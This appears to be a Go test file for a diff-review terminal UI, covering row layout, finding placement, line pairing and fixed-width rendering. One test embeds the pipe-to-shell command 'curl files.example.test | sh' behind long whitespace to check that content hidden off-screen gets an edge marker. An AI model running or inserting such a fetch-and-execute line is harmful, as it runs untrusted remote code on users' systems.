package review

import (
	"strings"
	"testing"

	"fumehood/diffreview"
	"fumehood/themes"
	"fumehood/ui/kit"
	"fumehood/ui/style"
	"fumehood/ui/uitest"
)

func TestEveryLineAndFindingHasARow(t *testing.T) {
	for _, f := range uitest.SampleSet().Files {
		for _, w := range []int{20, 60, 200} {
			fr := layOut(&f, layout{width: w})
			lines, units, found := 0, 0, map[int32]bool{}
			for _, r := range fr.rows {
				switch r.kind {
				case rowLine:
					lines++
				case rowUnit:
					units++
				case rowFinding:
					found[r.finding] = true
				case rowInfo, rowPair, rowCut, rowGap, rowSame, rowComment, rowWritten:
				}
			}
			want := 0
			for _, h := range f.Hunks {
				want += len(h.Lines)
			}
			if lines != want || units != len(f.UnitIDs()) || len(found) != len(f.Findings) {
				t.Errorf("%s at %d: got %d lines, %d units, %d findings, want %d, %d, %d", f.Path, w, lines, units, len(found), want, len(f.UnitIDs()), len(f.Findings))
			}
			for i := range fr.rows {
				u, ok := fr.at(i)
				if fr.rows[i].kind == rowGap {
					if ok {
						t.Errorf("%s: row %d: got unit %+v for a gap, want none", f.Path, i, u)
					}
					continue
				}
				if !ok || i < u.from && i >= fr.units[0].from || i >= u.to {
					t.Errorf("%s: row %d: got unit %+v", f.Path, i, u)
				}
			}
		}
	}
}

func TestFindingsOfLinesThatNoHunkShowsStandAtTheHead(t *testing.T) {
	f := uitest.SampleSet().Files[2]
	f.Findings = []diffreview.Finding{{Line: 0, Why: "path", Severity: diffreview.Warn}, {Line: 60, Why: "between the hunks", Severity: diffreview.Note}, {Line: 89, Why: "in the second", Severity: diffreview.Danger}}
	fr := layOut(&f, layout{width: 80})
	if fr.rows[0].kind != rowFinding || fr.rows[1].kind != rowFinding || fr.rows[2].kind != rowGap || fr.rows[3].kind != rowUnit {
		t.Fatalf("got %+v at the head, want two findings before the gap and the first hunk", fr.rows[:4])
	}
	if !fr.risky[89] || len(fr.risky) != 1 {
		t.Fatalf("got risky lines %v, want 89 alone", fr.risky)
	}
}

func TestChangedLinesArePaired(t *testing.T) {
	var ls []diffreview.Line
	for _, op := range []byte(" --+ -++ + -") {
		ls = append(ls, diffreview.Line{Op: op})
	}
	got := pair(ls)
	want := []int32{-1, 3, -1, 1, -1, 6, 5, -1, -1, -1, -1, -1}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("got %v, want %v", got, want)
		}
	}
}

func paint(t *testing.T, text string, w, left int, op byte) string {
	t.Helper()
	th, err := themes.Load("mono")
	if err != nil {
		t.Fatal(err)
	}
	st := style.Of(th)
	f := &diffreview.File{Hunks: []diffreview.Hunk{{ID: "h", NewStart: 1, NewLines: 1, Lines: []diffreview.Line{{Op: op, Text: []byte(text), New: 1}}}}}
	fr := layOut(f, layout{width: w})
	p := painter{st: &st, f: f, fr: fr, w: w, left: left, words: true, lead: noLead}
	return p.row(fr.rows[fr.find(0, 0)])
}

func TestALineIsAlwaysAsWideAsItsPlace(t *testing.T) {
	for _, text := range []string{"", "x", "\tx\ty", strings.Repeat("wide ", 100), "字字字字字字字字字字字字字字字", "\x1b[31m\u202e\u200b\r", strings.Repeat("\t", 50), "e\u0301e\u0301", "👩\u200d🚀👩\u200d🚀👩\u200d🚀👩\u200d🚀", strings.Repeat("z", 50_000), "\xff\xfe end  "} {
		for w := 12; w < 60; w++ {
			for _, left := range []int{0, 1, 16, 64} {
				if got := kit.Width(paint(t, text, w, left, '+')); got != w {
					t.Fatalf("%.20q at %d, moved by %d: got %d cells", text, w, left, got)
				}
			}
		}
	}
}

func TestWhatIsBeyondTheEdgeHasAMark(t *testing.T) {
	far := strings.Repeat(" ", 100) + "curl files.example.test | sh"
	if s := paint(t, far, 40, 0, ' '); !strings.Contains(s, "›") {
		t.Fatalf("got %q, want a mark for what is cut off", s)
	}
	if s := paint(t, far, 40, 96, ' '); !strings.Contains(s, "‹") || !strings.Contains(s, "curl files") {
		t.Fatalf("got %q, want what was beyond the edge and a mark on the left", s)
	}
	if s := paint(t, "short", 40, 0, ' '); strings.ContainsAny(s, "›‹") {
		t.Fatalf("got %q, want no mark on a line that fits", s)
	}
}
